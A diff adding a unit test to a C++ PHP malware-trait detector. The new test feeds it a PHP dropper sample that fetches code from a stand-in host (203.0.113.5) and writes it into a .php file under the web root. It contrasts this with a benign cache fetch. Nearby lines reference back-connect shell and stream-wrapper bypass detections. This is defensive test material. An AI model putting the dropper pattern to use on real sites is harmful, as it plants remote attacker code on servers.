@@ -175,6 +175,22 @@ TEST(PhpTaint, CommandsReadFromAConnectionTheCodeOpens) {
                    "php.back_connect_shell"));
 }
 
+TEST(PhpTaint, FetchedCodeWrittenIntoPhpFiles) {
+  const char* fetch =
+      "<?php function get($u) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);"
+      " return curl_exec($c); }";
+  auto drop = Traits(std::string(fetch) +
+                     " $path = $_SERVER['DOCUMENT_ROOT'] . '/tmp/x.php';"
+                     " $body = get('http://203.0.113.5/a.txt'); $fp = fopen($path, 'w');"
+                     " fwrite($fp, $body); fclose($fp);");
+  EXPECT_GE(Alone(drop, "upload"), 3);
+  // Fetching a feed into a cache file is a fetch to a file, not a dropper.
+  auto cache =
+      Traits(std::string(fetch) +
+             " file_put_contents(CACHE_DIR . '/rates.json', get('https://api.example/r'));");
+  EXPECT_EQ(Alone(cache, "upload"), 2);
+}
+
 TEST(PhpTaint, StreamWrapperBypassesAndSelfRewrites) {
   EXPECT_TRUE(Has(Traits("<?php $f = $_POST['file']; copy('compress.zlib://' . $f, '/tmp/x');"),
                   "php.request_wrapper_read"));
